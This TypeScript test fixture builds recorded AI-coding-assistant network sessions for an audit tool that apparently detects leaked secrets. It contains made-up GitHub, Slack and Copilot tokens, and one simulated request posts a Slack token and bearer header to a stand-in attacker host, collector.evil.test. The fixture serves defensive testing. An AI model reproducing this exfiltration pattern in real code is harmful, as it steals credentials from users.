// A session with one of everything that an audit looks for. All secrets are made up; their parts are joined here so that no
// scanner of this repository takes them for real.

import type { Script } from '../../kit/records.ts';
import { chatEvents, http1Request, http1Response, writeRecording } from '../../kit/session-file.ts';

export const GITHUB = ['ghp', 'a8Kd03jfLs92mXq1Zt7Rw5Vb6Nc4Ye0Uh3Gi'].join('_');
export const SLACK = ['xoxb', '913847362514', '2837465019283', 'Zk3LmQ9rT7vXw2YbNc5Pd8Fg'].join('-');
export const COPILOT = 'tid=9c1e7b3a5d2f4e6089abcdef01234567;exp=1772373909;sku=free:4f1c9e7a3b5d2068cafe';
const AUTH = `Authorization: Bearer ${COPILOT}`;
const JSON_TYPE = 'Content-Type: application/json';
const SSE = 'Content-Type: text/event-stream';

const chat = (content: string, more: object = {}) =>
  JSON.stringify({ model: 'gpt-4.1', stream: true, messages: [{ role: 'user', content }], ...more });

const PROMPT = `<attachments>\n<attachment filePath="/home/annlee/app/.env">\nGH=${GITHUB}\n</attachment>\n</attachments>\n<userRequest>\nWhat is it?\n</userRequest>`;

function chats(script: Script): void {
  const connection = script.connection({ ssl: 1n }).sni('api.githubcopilot.com').facts({ alpn: 'http/1.1' });
  const call = (body: string, pieces: readonly string[]): void => {
    connection.out(http1Request('POST /chat/completions', 'api.githubcopilot.com', [AUTH, JSON_TYPE], body));
    connection.in(http1Response('200 OK', [SSE], chatEvents(pieces)));
  };
  call(chat(PROMPT), ['It is ', GITHUB.slice(0, 9), GITHUB.slice(9), '.']);
  call(chat(PROMPT, { store: true }), ['A token.']);
  connection.close();
}

function strangers(script: Script): void {
  const evil = script.connection({ ssl: 2n }).sni('collector.evil.test');
  evil.facts({ version: 0x0301, cipher: 0x0300_002f });
  evil.out(
    http1Request('POST /up?token=q8Zt3Lk0Pw7Xn2Vb', 'collector.evil.test', [AUTH, JSON_TYPE], `{"t":"${SLACK}"}`),
  );
  evil.in(http1Response('302 Found', ['Location: https://other.evil.test/x'])).close();
  const login = script.connection({ ssl: 3n }).sni('github.com');
  login.out(http1Request('GET /login/a', 'github.com', ['vscode-machineid: 4c4f']));
  login.in(http1Response('301 Moved', ['Location: https://api.github.com/b'])).close();
}

function telemetry(script: Script): void {
  const host = 'copilot-telemetry.githubusercontent.com';
  const connection = script.connection({ ssl: 4n }).sni(host);
  const event = {
    name: 'x',
    data: { baseType: 'EventData', baseData: { name: 'copilot-chat/engine.messages', properties: {} } },
  };
  connection.out(http1Request('POST /telemetry', host, [JSON_TYPE], JSON.stringify([event])));
  connection.in(http1Response('200 OK', [JSON_TYPE], '{}')).close();
}

function completion(script: Script): void {
  const host = 'copilot-proxy.githubusercontent.com';
  const connection = script.connection({ ssl: 5n }).sni(host);
  const extra = { language: 'dotenv', context: ['Path: app/.env', ''] };
  const body = JSON.stringify({ prompt: 'GH=', suffix: '', max_tokens: 500, stream: true, extra });
  connection.out(http1Request('POST /v1/engines/gpt-41-copilot/completions', host, [AUTH, JSON_TYPE], body));
  connection.in(http1Response('200 OK', [SSE], 'data: [DONE]\n\n')).close();
}

export const leakySession = (path: string): string =>
  writeRecording(path, (script) => {
    chats(script);
    strangers(script);
    telemetry(script);
    completion(script);
  });

/** A session in which nothing is wrong. */
export const cleanSession = (path: string): string =>
  writeRecording(path, (script) => {
    const connection = script.connection({ ssl: 1n }).sni('api.githubcopilot.com');
    connection.out(http1Request('POST /chat/completions', 'api.githubcopilot.com', [AUTH, JSON_TYPE], chat('Hello?')));
    connection.in(http1Response('200 OK', [SSE], chatEvents(['Hi.']))).close();
  });

export const SECRETS = [GITHUB, SLACK, COPILOT, 'q8Zt3Lk0Pw7Xn2Vb'];
